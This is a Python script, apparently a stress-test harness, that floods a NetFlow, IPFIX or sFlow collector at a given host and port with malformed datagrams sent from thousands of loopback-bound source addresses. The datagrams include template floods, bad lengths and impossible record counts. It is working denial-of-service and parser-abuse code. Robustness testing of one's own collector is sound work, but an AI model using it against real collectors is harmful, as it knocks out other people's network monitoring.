#!/usr/bin/python3
"""A hostile flow exporter: datagrams built to exhaust or confuse a NetFlow v5/v9/IPFIX/sFlow
collector, sent to HOST:PORT from many source addresses.

    flows_hostile.py HOST PORT [--datagrams N] [--addresses M] [--base 127.1.0.0] [--seed S]
                     [--sflow-port P]

Each datagram is one of (in turn):
  v9 / IPFIX template floods: 16 templates each under a random source id / observation domain,
      from one of M addresses (base + i; on loopback any 127/8 address can be bound), or from
      the kernel's own address (the real exporter's, spoofed), random source id;
  v9 / IPFIX sets of length 0, 3 and past the datagram; data sets for unknown templates;
  templates with 65535 fields, options templates with absurd scope lengths, IPFIX message
      lengths past the datagram, withdrawals of everything;
  NetFlow v5 with count 65535 and with count 30 over a short datagram;
  sFlow with 2^32-1 samples; random bytes;
  with --sflow-port, to that port: sFlow datagrams under random agent addresses and sub-agents
      (each a new exporter), with 2^32-1 samples, a sample longer than the datagram, a flow
      sample claiming 2^32-1 records.
Prints the number of datagrams sent.
"""
import ipaddress
import random
import socket
import struct
import sys


def v9_header(sid, seq):
    return struct.pack(">HHIIII", 9, 0, 1000, 1795411865, seq, sid)


def ipfix(body, odid, seq, length=None):
    n = 16 + len(body) if length is None else length
    return struct.pack(">HHIII", 10, n & 0xffff, 1795411865, seq, odid) + body


def v9_templates(rnd, count=16):
    recs = b""
    for t in range(count):
        fields = [(8, 4), (12, 4), (1, 4), (2, 4), (7, 2), (11, 2), (4, 1)]
        rnd.shuffle(fields)
        recs += struct.pack(">HH", 256 + rnd.randrange(65000), len(fields))
        recs += b"".join(struct.pack(">HH", a, b) for a, b in fields)
    return struct.pack(">HH", 0, 4 + len(recs)) + recs


def ipfix_templates(rnd, count=16):
    recs = b""
    for t in range(count):
        recs += struct.pack(">HH", 256 + rnd.randrange(65000), 4)
        recs += struct.pack(">HHHHHHHH", 8, 4, 12, 4, 1, 8, 0x8000 | 1, 8) + struct.pack(">I", 29305)
    return struct.pack(">HH", 2, 4 + len(recs)) + recs


def sflow(agent, sub, seq, samples):
    return struct.pack(">IIIIIII", 5, 1, agent, sub, seq, 1000, len(samples)) + b"".join(samples)


def sflow_kinds(rnd, seq):
    agent, sub = rnd.getrandbits(32), rnd.getrandbits(32)
    yield sflow(agent, sub, seq, [])
    yield struct.pack(">IIIIIII", 5, 1, agent, sub, seq, 1000, 0xffffffff)
    yield sflow(agent, sub, seq, [struct.pack(">II", 1, 60000) + b"\0" * 40])
    body = struct.pack(">IIIIIIII", seq, 3, 8, 1000, 0, 1, 2, 0xffffffff)
    yield sflow(agent, sub, seq, [struct.pack(">II", 1, len(body)) + body])


def kinds(rnd, seq):
    """(datagram, from_real_address) for each hostile kind, in turn."""
    sid = rnd.getrandbits(32)
    yield v9_header(sid, seq) + v9_templates(rnd), False
    yield ipfix(ipfix_templates(rnd), sid, seq), False
    yield v9_header(sid, seq) + v9_templates(rnd), True
    yield ipfix(ipfix_templates(rnd), sid, seq), True
    yield v9_header(sid, seq) + struct.pack(">HH", 256, 0) + b"\0" * 16, False       # set length 0
    yield v9_header(sid, seq) + struct.pack(">HH", 0, 3) + b"\0" * 16, False         # below 4
    yield v9_header(sid, seq) + struct.pack(">HH", 0, 60000) + b"\0" * 16, False     # past the end
    yield v9_header(sid, seq) + struct.pack(">HH", 300, 64) + b"\x55" * 60, False     # unknown template
    yield v9_header(sid, seq) + struct.pack(">HHHH", 0, 12, 300, 65535) + b"\0" * 4, False
    yield v9_header(sid, seq) + struct.pack(">HHHHH", 1, 14, 400, 65532, 65532) + b"\0" * 4, False
    yield ipfix(struct.pack(">HH", 2, 8) + struct.pack(">HH", 2, 0), sid, seq), False  # withdraw all
    yield ipfix(ipfix_templates(rnd, 2), sid, seq, length=60000), False               # length past
    yield ipfix(struct.pack(">HH", 2, 12) + struct.pack(">HHHH", 300, 65535, 1, 4), sid, seq), False
    yield struct.pack(">HHIIIIBBH", 5, 65535, 1, 2, 3, seq, 1, 2, 0), False            # count 65535
    yield struct.pack(">HHIIIIBBH", 5, 30, 1, 2, 3, seq, 1, 2, 0) + b"\1" * 100, False  # too short
    yield struct.pack(">IIIIIII", 5, 1, 0x7f000001, 0, seq, 1, 0xffffffff), False       # sFlow
    yield bytes(rnd.getrandbits(8) for _ in range(rnd.randrange(1, 200))), False


def main():
    a = sys.argv[1:]
    host, port = a[0], int(a[1])
    opts = dict(zip(a[2::2], a[3::2]))
    total = int(opts.get("--datagrams", 20000))
    naddr = int(opts.get("--addresses", 4000))
    base = ipaddress.ip_address(opts.get("--base", "127.1.0.0"))
    rnd = random.Random(int(opts.get("--seed", 1)))
    sport = int(opts["--sflow-port"]) if "--sflow-port" in opts else None
    real = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    socks = {}
    sent = 0
    seq = 0
    while sent < total:
        seq += 1
        todo = list(kinds(rnd, seq))
        if sport:
            todo += [(d, False, sport) for d in sflow_kinds(rnd, seq)]
        for item in todo:
            dgram, from_real = item[0], item[1]
            dport = item[2] if len(item) > 2 else port
            if sent >= total:
                break
            if from_real:
                s = real
            else:
                i = rnd.randrange(naddr)
                s = socks.get(i)
                if s is None:
                    if len(socks) > 256:  # a bounded number of open sockets
                        socks.pop(next(iter(socks))).close()
                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    s.bind((str(base + i), 0))
                    socks[i] = s
            try:
                s.sendto(dgram, (host, dport))
            except OSError:
                pass  # a full socket buffer: the collector is flooded, which is the point
            sent += 1
    print(sent)


main()
